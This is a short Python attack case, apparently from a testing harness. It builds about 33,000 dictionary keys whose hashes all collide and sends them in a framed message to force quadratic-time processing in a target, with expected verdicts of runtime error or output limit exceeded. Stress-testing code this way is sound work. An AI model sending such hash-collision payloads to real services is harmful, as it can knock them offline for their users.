# /// attack
# tries = "Send a dictionary whose keys all have the same hash, so that building it takes quadratic time."
# verdicts = ["runtime_error", "output_limit_exceeded"]
# ///
import struct

def attack(root, worker):
    prime = 2**61 - 1
    keys = ",".join(f'[{{"i":"{hex(number * prime)}"}},0]' for number in range(10, 33_000))
    header = f'{{"t":[{request_number()},"ok",[{{"d":[{keys}]}}]]}}'.encode()
    send(struct.pack("<IQ", len(header), 0) + header)
    return []
